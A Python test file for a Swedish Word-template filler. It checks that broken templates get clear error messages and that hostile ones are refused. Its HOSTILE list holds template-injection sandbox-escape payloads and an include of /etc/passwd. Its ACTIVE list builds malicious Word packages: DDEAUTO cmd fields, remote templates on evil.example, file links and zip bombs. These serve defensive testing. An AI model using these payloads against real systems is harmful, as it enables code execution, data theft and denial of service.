"""Templates come with a register and so from anyone: a broken one is told where, a hostile one does nothing."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from docx.oxml.ns import qn
from hypothesis import example, given, settings
from hypothesis import strategies as st

from anslag.documents.default_templates import TEMPLATES, default_template
from anslag.documents.filled import filled
from anslag.documents.register_templates import Templates
from anslag.documents.template_file import TemplateFaultError
from anslag.documents.word_package import PackageError, members, packed
from tests.documents.papers_kit import AS_OF, opened, require_readable_aloud, said, template

CONTENT = {"name": "Språkcafé", "items": ["a", "b"], "one": {"amount": "5 kr", "items": "egna"}, "many": ["x"] * 200}


def fill(*texts: str) -> list[str]:
    found = opened(filled(template(*texts), CONTENT, "Titel", AS_OF))
    return [one.text for one in found.paragraphs if one.text][1:]


def fault(*texts: str) -> str:
    with pytest.raises(TemplateFaultError) as told:
        filled(template(*texts), CONTENT, "Titel", AS_OF)
    return str(told.value)


def test_a_template_shows_loops_over_and_chooses_among_its_data() -> None:
    assert fill("Hej {{ name }}: {{ one.amount }}, {{ one.items }}.") == ["Hej Språkcafé: 5 kr, egna."]
    assert fill("{%p for x in items %}", "{{ loop.index }} {{ x | upper }}", "{%p endfor %}") == ["1 A", "2 B"]
    assert fill("{% if name == 'x' %}nej{% elif items | length %}{{ items | listed }}{% endif %}") == ["a och b"]
    assert fill("{{ items[0] }}{{ items | last }}") == ["ab"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("Hej {{ nmae }}!", "nmae finns inte bland uppgifterna. Menas name? Det står i stycket: ”Hej {{ nmae }}!”."),
        (
            "Till {{ one.amout }}",
            "amout finns inte bland uppgifterna. Menas amount? Det står i stycket: ”Till {{ one.amout }}”.",
        ),
        ("{% fro x in items %}", "Mallen förstår inte ”fro”. Skriv for, if, elif, else, endif eller endfor."),
        ("{{ name | uper }}", "uper finns inte. Välj bland: capital, first, last, length, listed, lowered, upper."),
        ("{% if name %}x", "Ett for eller if avslutas aldrig. Sätt in endfor eller endif där det slutar."),
        ("{{ name", "Det som står inom klamrarna går inte att tyda"),
        ("{{ name.first.last }}", "first finns inte bland uppgifterna."),
    ],
)
def test_a_broken_template_is_told_where_and_how_it_is_mended(text: str, told: str) -> None:
    assert fault("Först ett stycke.", text).startswith(told)
    assert "Först ett stycke" not in fault("Först ett stycke.", text)


def test_a_loop_that_is_closed_on_another_level_is_told() -> None:
    assert "varje {%p …%} står ensam i sitt stycke" in fault("a {% for x in items %}", "{%p endfor %}")


HOSTILE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ name['__class__'] }}",
    "{{ name.format('x') }}",
    "{{ items.append('x') }}",
    "{{ one.keys() }}",
    "{{ self._TemplateReference__context }}",
    "{{ loop.__init__.__globals__ }}",
    "{% for x in items %}{{ loop.cycle('a') }}{% endfor %}",
    "{% for x in items %}{{ loop._iterable }}{% endfor %}",
    "{% for x in items recursive %}{{ loop(items) }}{% endfor %}",
    "{{ range(10 ** 10) }}",
    "{{ 'a' * 10000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ lipsum() }}",
    "{{ cycler('a') }}",
    "{{ name | attr('__class__') }}",
    "{{ items | map('upper') | join }}",
    "{{ name | safe }}",
    "{{ name | replace('a', 'aaaaaaaaaaaa') }}",
    "{{ '%1000000000d' | format(1) }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% from 'x' import y %}",
    "{% extends 'x' %}",
    "{% set x = 1 %}",
    "{% macro m() %}{% endmacro %}",
    "{% call m() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}",
    "{{ namespace(a=1) }}",
    "{{ name ~ name }}",
    "{{ items[:1] }}",
    "{{ {'a': 1} }}",
    "{{ name is callable }}",
    "{% do items.append(1) %}",
    "{% debug %}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_template_reaches_nothing_but_its_data(text: str) -> None:
    said = fault(text)
    assert "passwd" not in said.replace(text, "")
    assert "class '" not in said


def test_a_template_that_never_ends_is_stopped() -> None:
    loops = 6
    text = "".join(f"{{% for a{n} in many %}}" for n in range(loops)) + "x" + "{% endfor %}" * loops
    assert fault(text).startswith("Mallen tar för lång tid eller för mycket minne att fylla i.")


def rebuilt(change: Callable[[dict[str, bytes]], None]) -> bytes:
    parts = members(template("Hej"))
    change(parts)
    return packed(parts)


def relation(kind: str, target: str) -> Callable[[dict[str, bytes]], None]:
    """Return a change that gives the document a relation to what lies elsewhere."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    told = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'

    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", told.encode())

    return change


def related(xml: str) -> Callable[[dict[str, bytes]], None]:
    """Return a change that gives the document a relation as `xml` writes it."""

    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", f"{xml}</Relationships>".encode())

    return change


def put(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.__setitem__(name, content)


def inserted(xml: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/document.xml"
        parts[name] = parts[name].replace(b"<w:sectPr", b"<w:p>" + xml + b"</w:p><w:sectPr", 1)

    return change


def prologue(xml: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        text = parts["word/document.xml"]
        at = text.index(b"?>") + 2
        parts["word/document.xml"] = text[:at] + xml + text[at:]

    return change


RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
IMAGE = 'Type="http://a.example/image" Target="https://evil.example/x.png"'
FIELD = b"<w:r><w:instrText>%s</w:instrText></w:r>"
ACTIVE: list[tuple[str, Callable[[dict[str, bytes]], None], str]] = [
    ("macros", put("word/vbaProject.bin", b"x"), "makron"),
    ("embedded", put("word/embeddings/oleObject1.bin", b"x"), "inbäddade filer"),
    ("activex", put("word/activeX/activeX1.xml", b"<a/>"), "inbäddade filer"),
    ("chunk", put("word/afchunk.mht", b"x"), "inbäddade filer"),
    (
        "docm",
        put("[Content_Types].xml", b'<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "makron",
    ),
    ("remote template", relation("attachedTemplate", "https://evil.example/x.dotm"), "en annan mall"),
    ("remote image", relation("image", "https://evil.example/x.png"), "hämtar något som ligger"),
    ("frame", relation("frame", "file://server/share"), "hämtar något som ligger"),
    (
        "bracket in a relation",
        related(f'<Relationship Id="a>" {IMAGE} TargetMode="External"/>'),
        "hämtar något som ligger",
    ),
    (
        "escaped relation",
        related(f'<Relationship Id="a" {IMAGE} TargetMode="&#69;xternal"/>'),
        "hämtar något som ligger",
    ),
    (
        "relation in disguise",
        related(f"""<Relationship Id='Type="/hyperlink"' {IMAGE} TargetMode="External"/>"""),
        "hämtar något som ligger",
    ),
    (
        "relation by another prefix",
        related(f'<a-b:Relationship xmlns:a-b="{RELATIONS}" Id="a" {IMAGE} TargetMode="External"/>'),
        "hämtar något som ligger",
    ),
    ("broken relations", put("word/_rels/document.xml.rels", b"<Relationship "), "skadad"),
    ("file link", relation("hyperlink", "file:///etc/passwd"), "hämtar något som ligger"),
    ("include", inserted(FIELD % b" INCLUDETEXT c:\\\\x "), "ett fält som hämtar"),
    ("split field", inserted(FIELD % b" INCLUDE" + FIELD % b"PICTURE http://x "), "ett fält som hämtar"),
    ("escaped field", inserted(FIELD % b" &#68;DEAUTO c x "), "ett fält som hämtar"),
    ("field in a section", inserted(FIELD % b"<![CDATA[ INCLUDETEXT x ]]>"), "ett fält som hämtar"),
    ("field around a comment", inserted(FIELD % b" INCLUDE<!-- -->TEXT x "), "ett fält som hämtar"),
    (
        "field by another prefix",
        inserted(b'<a-b:instrText xmlns:a-b="http://schemas.openxmlformats.org/w"> DDE x </a-b:instrText>'),
        "ett fält som hämtar",
    ),
    (
        "escaped docm",
        put("[Content_Types].xml", b'<Types><Override PartName="/a" ContentType="a.&#109;acroEnabled+xml"/></Types>'),
        "makron",
    ),
    (
        "document that is not called one",
        put("[Content_Types].xml", b'<Types><Override PartName="/word/a.dat" ContentType="a.main+xml"/></Types>'),
        "inte skriven som Word",
    ),
    ("simple field", inserted(b'<w:fldSimple w:instr=" DDEAUTO cmd x "/>'), "ett fält som hämtar"),
    ("entities", prologue(b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'), "inte skriven som Word"),
    (
        "another encoding",
        put("word/document.xml", '<?xml version="1.0"?><a/>'.encode("utf-16")),
        "inte skriven som Word",
    ),
    (
        "hidden encoding",
        put("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
        "inte skriven som Word",
    ),
]


@pytest.mark.parametrize(("change", "told"), [pytest.param(one, told, id=id_) for id_, one, told in ACTIVE])
def test_a_file_that_does_something_is_refused(change: Callable[[dict[str, bytes]], None], told: str) -> None:
    with pytest.raises(PackageError, match=told):
        members(rebuilt(change))
    with pytest.raises(TemplateFaultError, match=told):
        filled(rebuilt(change), CONTENT, "Titel", AS_OF)


def test_an_address_to_click_on_is_let_be() -> None:
    assert filled(rebuilt(relation("hyperlink", "https://kommunen.example/")), CONTENT, "Titel", AS_OF)


def bomb() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in ("word/document.xml", "word/a.png", "word/b.png", "word/c.png"):
            target.writestr(name, b"\0" * (19 << 20))
    return out.getvalue()


def lying() -> bytes:
    """Return a bomb whose directory says that each part is small."""
    content = bytearray(bomb())
    size = (19 << 20).to_bytes(4, "little")
    return bytes(content).replace(size, (100).to_bytes(4, "little"))


@pytest.mark.parametrize(
    ("content", "told"),
    [
        pytest.param(b"", "inget Worddokument", id="empty"),
        pytest.param(b"%PDF-1.7", "inget Worddokument", id="pdf"),
        pytest.param(b"PK\x03\x04 broken", "skadad", id="broken"),
        pytest.param(b"\xd0\xcf\x11\xe0 old", "äldre format", id="doc"),
        pytest.param(bomb(), "orimligt stor", id="bomb"),
        pytest.param(lying(), "orimligt stor|skadad", id="lying bomb"),
        pytest.param(b"PK" + b"\0" * (11 << 20), "Gränsen är 10 MB", id="big"),
        pytest.param(packed({"a.txt": b"x"}), "inget Worddokument", id="another zip"),
        pytest.param(packed({f"{n}.txt": b"" for n in range(2001)}), "orimligt många delar", id="many"),
        pytest.param(template("Hej")[:-200], "skadad", id="cut off"),
    ],
)
def test_what_is_no_word_file_is_refused(content: bytes, told: str) -> None:
    with pytest.raises(TemplateFaultError, match=told):
        filled(content, CONTENT, "Titel", AS_OF)


def altered(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return change


KINDS = "[Content_Types].xml"
CORE = b"package/2006/relationships/metadata/core-properties"
CORE_OF_ISO = b"officedocument/2006/relationships/metadata/core-properties"


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(altered(KINDS, b"document.main+xml", b"template.main+xml"), id="dotx"),
        pytest.param(altered("_rels/.rels", CORE, CORE_OF_ISO), id="LibreOffice's Office Open XML Text"),
    ],
)
def test_a_template_in_another_dress_of_the_format_is_filled_in(change: Callable[[dict[str, bytes]], None]) -> None:
    made = filled(rebuilt(change), CONTENT, "Titel", AS_OF)
    assert said(opened(made)) == said(opened(filled(template("Hej"), CONTENT, "Titel", AS_OF)))
    assert opened(made).core_properties.title == "Titel"


def test_strict_open_xml_is_told_of() -> None:
    strict = altered("_rels/.rels", b"schemas.openxmlformats.org/officeDocument", b"purl.oclc.org/ooxml/officeDocument")
    with pytest.raises(TemplateFaultError, match=r"Strict Open XML\. Spara den som Worddokument"):
        filled(rebuilt(strict), CONTENT, "Titel", AS_OF)


@pytest.mark.parametrize("name", [KINDS, "_rels/.rels", "docProps/core.xml", "word/styles.xml"])
def test_a_file_that_lacks_a_part_is_called_damaged_and_its_words_are_not_blamed(name: str) -> None:
    with pytest.raises(TemplateFaultError, match=r"skadad: delar av den fattas .* spara den på nytt"):
        filled(rebuilt(lambda parts: parts.__delitem__(name)), CONTENT, "Titel", AS_OF)


@pytest.mark.parametrize(
    ("name", "how"),
    [
        ("Statement.docx", "Byt namn till statement.docx"),
        ("statments.docx", "Byt namn till statement.docx"),
        ("reminder.dotx", "Spara den i Word som reminder.docx"),
    ],
)
def test_a_template_that_its_name_would_leave_unused_is_told(tmp_path: Path, name: str, how: str) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / name).write_bytes(template("Hej"))
    with pytest.raises(TemplateFaultError) as caught:
        Templates.of(tmp_path)
    assert str(caught.value) == f"templates/{name} används inte. {how}, eller ta bort filen."


def test_other_files_beside_the_templates_are_let_be(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    for name in ("agenda.docx", "agenda_kopia.docx", "~$statement.docx", "Läs mig.docx", "statement.txt"):
        (folder / name).write_bytes(template("Hej"))
    assert list(Templates.of(tmp_path).own) == ["agenda"]


@pytest.mark.parametrize(
    ("make", "told"),
    [
        (Path.mkdir, "templates/statement.docx går inte att läsa: det är en mapp."),
        (lambda file: file.write_bytes(bytes(11 << 20)), "templates/statement.docx är större än 10 MB."),
    ],
)
def test_a_template_that_cannot_be_read_is_told_why(tmp_path: Path, make: Callable[[Path], object], told: str) -> None:
    (tmp_path / "templates").mkdir()
    make(tmp_path / "templates" / "statement.docx")
    with pytest.raises(TemplateFaultError) as said:
        Templates.of(tmp_path)
    assert str(said.value).startswith(told)


def test_what_bears_names_in_a_template_is_refused() -> None:
    traced = b'<w:ins w:id="1" w:author="Anna Andersson"><w:r><w:t>x</w:t></w:r></w:ins>'
    for change in (inserted(traced), put("word/comments.xml", b"<w:comments/>")):
        with pytest.raises(TemplateFaultError, match="kommentarer eller spårade ändringar") as told:
            filled(rebuilt(change), CONTENT, "Titel", AS_OF)
        assert "Anna" not in str(told.value)


def test_properties_of_the_template_name_nobody_in_the_document() -> None:
    def change(parts: dict[str, bytes]) -> None:
        app = b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        parts["docProps/app.xml"] = app + b"<Manager>Anna Andersson</Manager><TotalTime>9</TotalTime></Properties>"
        core = parts["docProps/core.xml"]
        parts["docProps/core.xml"] = core.replace(b"<dc:creator></dc:creator>", b"<dc:creator>Anna</dc:creator>")

    content = filled(rebuilt(change), CONTENT, "Titel", AS_OF)
    assert all(b"Anna" not in part for part in members(content).values())
    assert opened(content).core_properties.title == "Titel"


@settings(max_examples=30)
@given(st.text(st.characters(codec=None) | st.sampled_from("<>&\"'{}%\n\t\a\f\0\x0b]]>")))
@example("<w:p/>&amp;{{ name }}{_{]]>")
@example("a\nb\tc\x07d\x0ce")
def test_any_text_is_text(words: str) -> None:
    found = opened(filled(template("Före {{ name }} efter"), {"name": f"a{words}b"}, "Titel", AS_OF))
    text = next(one.text for one in found.paragraphs if one.text.startswith("Före"))
    assert text.startswith("Före a")
    assert text.endswith("b efter")
    assert len(list(found.element.body.iter(qn("w:p")))) == 2


def test_a_gap_is_marked_where_it_stands() -> None:
    content = filled(template("Belopp: {{ name }}."), {"name": "[Fyll i: beloppet] kr"}, "Titel", AS_OF)
    (runs,) = [one.runs for one in opened(content).paragraphs if "Belopp" in one.text]
    assert [(run.text, run.font.highlight_color is not None) for run in runs if run.text] == [
        ("Belopp: ", False),
        ("[Fyll i: beloppet]", True),
        (" kr.", False),
    ]


def test_no_personal_number_comes_out() -> None:
    number = "19640823-3234"
    with pytest.raises(TemplateFaultError, match="skulle innehålla ett personnummer") as told:
        filled(template("{{ name }}"), {"name": f"Kontakt {number}."}, "Titel", AS_OF)
    assert "3234" not in str(told.value)
    with pytest.raises(TemplateFaultError, match="skulle innehålla ett personnummer"):
        filled(template(f"Skrivet i mallen: {number}"), {}, "Titel", AS_OF)


@pytest.mark.parametrize("kind", TEMPLATES)
def test_the_programs_own_templates_are_as_any_that_is_saved_in_word(kind: str) -> None:
    content = default_template(kind)
    assert members(content)
    require_readable_aloud(opened(content))
